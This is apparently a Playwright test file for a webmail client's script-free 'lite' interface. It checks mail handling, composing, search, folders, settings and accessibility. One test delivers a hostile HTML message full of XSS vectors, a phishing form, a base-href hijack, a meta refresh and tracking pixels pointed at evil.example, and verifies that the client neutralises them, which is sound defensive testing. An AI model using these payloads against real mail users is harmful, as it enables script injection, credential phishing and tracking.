// The lite mode in a Chromium that runs no script, against a server of its own: every feature by links and forms.

import assert from "node:assert/strict";
import { after, test } from "node:test";
import { barriers, base, browser, counts, deliver, open, until } from "./world.mjs";

after(() => browser.close());

const mail = (subject, body, more = "", kind = "text/plain") =>
  `From: Mallory <mallory@elsewhere.example>\nTo: carol@example.com, dan@elsewhere.example\nSubject: ${subject}\nMessage-ID: <${subject.replace(/\W/g, "")}.lite@elsewhere.example>\nDate: Sat, 21 Nov 2026 10:00:00 +0000\nMIME-Version: 1.0\nContent-Type: ${kind}; charset=utf-8\n${more}\n${body}`;

const post = (subject, ...rest) => deliver("mallory@elsewhere.example", "carol@example.com", mail(subject, ...rest));

async function enter(page, user = "carol", password = "demo") {
  await page.goto(`${base}/lite/`);
  await page.fill("input[name=user]", user);
  await page.fill("input[name=password]", password);
  await page.click("form.card button.primary");
  await page.waitForSelector("nav[id=folders]");
}

/** A browser without scripts in which carol is signed in. */
async function lite() {
  const page = await open({ scripts: false });
  await enter(page);
  return page;
}

const row = (page, text) => page.locator(".rows li", { hasText: text }).first();
const said = (page, text) => page.locator(".said", { hasText: text }).waitFor();
const folder = (page, name) => page.click(`nav a:has-text("${name}")`);

/** Loads the inbox until what was sent has come: the page does not change by itself. */
const comes = (page, text) => until(async () => {
  await page.goto(`${base}/lite/`);
  return (await row(page, text).count()) > 0;
});

async function opened(page, text) {
  await row(page, text).locator("a").click();
  await page.waitForSelector(".mail h1");
}

test("the full client leads to the lite one and back; a browser without scripts is shown the way", async () => {
  const full = await open();
  await full.goto(base);
  await full.click("a[href='/lite/']");
  await full.waitForSelector("form.card input[name=password]");
  const none = await open({ scripts: false });
  await none.goto(base);
  await none.click("noscript a, a[href='/lite/']");
  await none.waitForSelector("form.card input[name=password]");
  await counts(none.locator("a[href='/']"), 1);
});

test("a wrong password is told, a right one opens the folder that was asked for, signing out ends it", async () => {
  const page = await open({ scripts: false });
  await page.goto(`${base}/lite/folders`);
  await page.fill("input[name=user]", "carol");
  await page.fill("input[name=password]", "wrong");
  await page.click("form.card button.primary");
  await page.waitForSelector("[role=alert]");
  await page.fill("input[name=password]", "demo");
  await page.click("form.card button.primary");
  await page.waitForSelector("h1:has-text('Folders')");
  await page.click("text=Sign out");
  await page.waitForSelector("input[name=password]");
  await page.goto(`${base}/lite/`);
  await page.waitForSelector("input[name=password]");
  assert.deepEqual(page.wrong, []);
});

test("mail is read, flagged, moved, deleted and brought back", async () => {
  await post("Lite news", "Something has happened.\nhttps://example.org/page\n");
  const page = await lite();
  assert.match(await row(page, "Lite news").getAttribute("class"), /unread/);
  await opened(page, "Lite news");
  await page.waitForSelector("text=Something has happened.");
  assert.equal(await page.locator(".body a").getAttribute("href"), "https://example.org/page");
  await page.click("button[value=flag]");
  await page.waitForSelector("button[value=unflag]");
  await page.click("button[value=delete]");
  await said(page, "1 moved to Trash");
  assert.equal(await row(page, "Lite news").count(), 0);
  await page.click(".said button");
  await said(page, "Undone");
  await row(page, "Lite news").locator(".flag").waitFor();
  await row(page, "Lite news").locator("input").check();
  await page.selectOption("select[name=to]", { label: "Archive" });
  await page.click("button[value=move]");
  await said(page, "1 moved to Archive");
  await folder(page, "Archive");
  await row(page, "Lite news").waitFor();
  assert.deepEqual([...page.wrong, ...page.foreign], []);
});

test("many are handled at once, with check boxes", async () => {
  for (const n of [1, 2, 3]) await post(`Bulk ${n}`, "x");
  const page = await lite();
  for (const n of [1, 2, 3]) await row(page, `Bulk ${n}`).locator("input").check();
  await page.click("button[value=read]");
  await said(page, "Done");
  assert.doesNotMatch((await row(page, "Bulk 1").getAttribute("class")) ?? "", /unread/);
  for (const n of [1, 2]) await row(page, `Bulk ${n}`).locator("input").check();
  await page.click("button[value=junk]");
  await said(page, "2 moved to Junk");
  await row(page, "Bulk 3").waitFor();
  assert.equal(await row(page, "Bulk 1").count(), 0);
});

test("a message is written, kept with its file, and arrives; it is answered, to all, and forwarded", async () => {
  const page = await lite();
  await page.click(".top .primary");
  await page.fill("#find", "bo");
  await page.fill("#subject", "Lite letter");
  await page.fill("#text", "First line\nsecond line");
  await page.click("button[value=find]");
  await page.click(".found li:has-text('bob@example.com') button");
  assert.match(await page.inputValue("#to"), /bob@example\.com/);
  await page.setInputFiles("input[type=file]", { name: "Notiz – 你好.txt", mimeType: "text/plain", buffer: Buffer.from("the file") });
  await page.click("button[value=attach]");
  await said(page, "Draft saved");
  await page.waitForSelector(".files:has-text('Notiz – 你好.txt')");
  await folder(page, "Drafts");
  await row(page, "Lite letter").locator("a").click();
  await page.click("button[value=send] >> nth=0");
  await said(page, "The message is sent");
  await folder(page, "Sent");
  await row(page, "Lite letter").waitFor();

  const bob = await open({ scripts: false });
  await enter(bob, "bob");
  await comes(bob, "Lite letter");
  await opened(bob, "Lite letter");
  const [file] = await Promise.all([bob.waitForEvent("download"), bob.click(".files a")]);
  assert.equal(file.suggestedFilename(), "Notiz – 你好.txt");
  await bob.click(".bar a:has-text('Reply to all')");
  assert.match(await bob.inputValue("#text"), /> First line\n> second line/);
  assert.equal(await bob.inputValue("#subject"), "Re: Lite letter");
  await bob.fill("#text", "Answered.");
  await bob.click("button[value=send] >> nth=0");
  await said(bob, "The message is sent");
  await row(bob, "Lite letter").locator("em:has-text('answered')").waitFor({ state: "attached" });
  await opened(bob, "Lite letter");
  await bob.click(".bar a:has-text('Forward')");
  await counts(bob.locator(".files li"), 1);
  await bob.fill("#to", "carol@example.com");
  await bob.click("button[value=send] >> nth=0");
  await said(bob, "The message is sent");
  await comes(page, "Fwd: Lite letter");
  await opened(page, "Re: Lite letter");
  await page.waitForSelector(".thread");
  assert.deepEqual([...page.wrong, ...bob.wrong], []);
});

test("what was written outlives the session", async () => {
  const page = await open({ scripts: false });
  await enter(page);
  await page.click(".top .primary");
  await page.fill("#to", "bob@example.com");
  await page.fill("#subject", "Kept over a sign-in");
  await page.fill("#text", "Words that took an hour");
  await page.context().clearCookies();
  await page.click("button[value=send] >> nth=0");
  await said(page, "What you wrote is kept");
  await page.fill("input[name=user]", "carol");
  await page.fill("input[name=password]", "demo");
  await page.click("form.card button.primary");
  await said(page, "Here is what you wrote");
  assert.equal(await page.inputValue("#text"), "Words that took an hour");
  await page.click("button[value=send] >> nth=0");
  await said(page, "The message is sent");
});

test("a search finds with operators", async () => {
  const page = await lite();
  await page.fill("input[type=search]", "subject:cake from:bob");
  await page.press("input[type=search]", "Enter");
  await page.waitForSelector("h1:has-text('subject:cake from:bob')");
  assert.ok((await page.locator(".rows li").count()) > 0);
  await page.fill("input[type=search]", "subject:cake from:nobody");
  await page.press("input[type=search]", "Enter");
  await page.waitForSelector("text=Nothing found");
});

test("folders are made, renamed, emptied and deleted", async () => {
  const page = await lite();
  await page.click("text=Manage folders");
  await page.fill("#name", "Lite things");
  await page.click("button[value=new]");
  const at = page.locator(".folders li", { hasText: "Lite things" });
  await at.waitFor();
  await at.locator("input[name=name]").fill("Lite affairs");
  await at.locator("button[value=rename]").click();
  await page.click(".folders li:has-text('Lite affairs') >> text=Delete");
  await page.click("text=Yes, do it");
  await said(page, "Done");
  await page.click(".folders li:has-text('Trash/Lite affairs') >> text=Delete");
  await page.waitForSelector("text=for good? This cannot be undone.");
  await page.click("text=Yes, do it");
  await said(page, "Done");
  assert.equal(await page.locator(".folders li", { hasText: "Lite affairs" }).count(), 0);
});

test("settings: out of office, signature, language; password and sessions have their pages", async () => {
  const page = await lite();
  await page.click("text=Settings");
  await page.fill("#vtext", "Back on Monday.");
  await page.click("button[value=vacation]");
  await said(page, "Saved");
  assert.equal(await page.inputValue("#vtext"), "Back on Monday.");
  const card = page.locator("form.card", { hasText: "carol@example.com" });
  await card.locator("textarea").fill("Yours, Carol");
  await card.locator("button[value=identity]").click();
  await page.click(".top .primary");
  assert.match(await page.inputValue("#text"), /Yours, Carol/);
  await page.goto(`${base}/lite/settings`);
  await page.selectOption("#lang", "zh");
  await page.click("button[value=speech]");
  await page.waitForSelector("nav >> text=收件箱");
  await page.selectOption("#lang", "en");
  await page.click("button[value=speech]");
  await page.click("a[href='/auth/']");
  await page.waitForSelector("text=Where you are signed in");
  await page.goto(`${base}/lite/settings`);
  await page.click("a[href='/account']");
  await page.waitForSelector("input[type=password]");
});

test("hostile mail runs nothing, loads nothing, and sends nothing, with scripts on", async () => {
  await post(
    "Lite hostile",
    `<script>top.hacked=1</script><img src=x onerror="top.hacked=2"><svg onload="top.hacked=3"></svg><a href="javascript:top.hacked=4">press</a>` +
      `<form action="https://evil.example"><input name=password><button>Sign</button></form><style>@import url(https://evil.example/a.css);</style>` +
      `<meta http-equiv=refresh content="0;url=https://evil.example/"><base href="https://evil.example/"><img src="https://evil.example/pixel.gif">` +
      `<div style="position:fixed;inset:0;background:url('https://evil.example/d.png')">cover</div><iframe src="https://evil.example/"></iframe></div></main><p>after</p>`,
    "",
    "text/html",
  );
  const page = await open();
  await enter(page);
  await opened(page, "Lite hostile");
  await page.waitForTimeout(200);
  assert.equal(await page.evaluate(() => window.hacked), undefined);
  assert.deepEqual(page.foreign, []);
  await counts(page.locator(".body p:has-text('after')"), 1);
  assert.equal(await page.locator(".body :is(script, style, form, input, iframe, svg, meta, base, [style], [onerror], a)").count(), 0);
  await page.click("text=Load pictures");
  await page.waitForSelector(".body img", { state: "attached" });
  await page.waitForTimeout(200);
  assert.deepEqual([...new Set(page.foreign)], ["https://evil.example/pixel.gif"]);
  assert.equal(new URL(page.url()).origin, base);
});

test("nobody is kept out: no violation of WCAG 2.2 AA, light and dark; it fits a telephone, in German", async () => {
  for (const options of [{}, { dark: true, width: 390, height: 844, language: "de-DE" }]) {
    const page = await open(options);
    await page.goto(`${base}/lite/`);
    assert.deepEqual(await barriers(page), [], "signing in");
    await enter(page);
    for (const at of ["", "compose", "folders", "deleted", "settings", "?q=cake"]) {
      await page.goto(`${base}/lite/${at}`);
      assert.deepEqual(await barriers(page), [], at || "list");
      assert.equal(await page.evaluate(() => document.documentElement.scrollWidth <= innerWidth), true, at);
    }
    await page.goto(`${base}/lite/`);
    await page.locator(".rows a").first().click();
    await page.waitForSelector(".mail");
    assert.deepEqual(await barriers(page), [], "message");
    assert.deepEqual(await page.evaluate(() => {
      const edge = document.querySelector("main").getBoundingClientRect().right + 1;
      return [...document.querySelectorAll("main *")].filter((e) => e.getBoundingClientRect().right > edge && !e.closest(".mail")).map((e) => e.outerHTML.slice(0, 80));
    }), [], "what sticks out of the page");
    if (options.language) await page.waitForSelector("nav >> text=Eingang");
    await page.context().close();
  }
});
